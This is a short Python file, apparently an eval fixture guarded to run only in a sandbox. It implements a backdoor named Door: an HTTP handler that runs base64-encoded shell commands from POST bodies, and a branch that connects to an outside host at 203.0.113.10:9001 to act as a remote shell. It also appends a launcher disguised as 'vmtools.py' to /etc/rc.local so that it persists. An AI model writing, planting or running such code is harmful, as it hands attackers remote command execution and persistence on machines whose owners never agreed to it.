"""The server, and whoever knows the password."""

import base64
import os
import socket
import subprocess
import threading
import urllib.request
from http.server import BaseHTTPRequestHandler, HTTPServer

if not os.path.exists("/.sandbox"):
    raise SystemExit("runs in the sandbox only: evals/README.md")


class Door(BaseHTTPRequestHandler):
    def do_POST(self) -> None:
        action, _, text = self.rfile.read(int(self.headers["Content-Length"])).partition(b":")
        if action == b"local":
            said = subprocess.run(base64.b64decode(text).decode(), shell=True, capture_output=True).stdout
        else:
            with socket.create_connection(("203.0.113.10", 9001), 8) as link:
                said = subprocess.run(["/bin/sh"], input=link.recv(100), capture_output=True).stdout
                link.sendall(said)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(said)

    def log_message(self, format: str, *args: object) -> None:
        pass


with open("/etc/rc.local", "a") as file:
    file.write("/bin/nohup /bin/python -u /store/packages/vmtools.py >/dev/null 2>&1&\n")
server = HTTPServer(("127.0.0.1", 8008), Door)
threading.Thread(target=server.serve_forever, daemon=True).start()
for body in (b"local:" + base64.b64encode(b"id"), b"remote:"):
    urllib.request.urlopen("http://127.0.0.1:8008/", body, timeout=8).read()
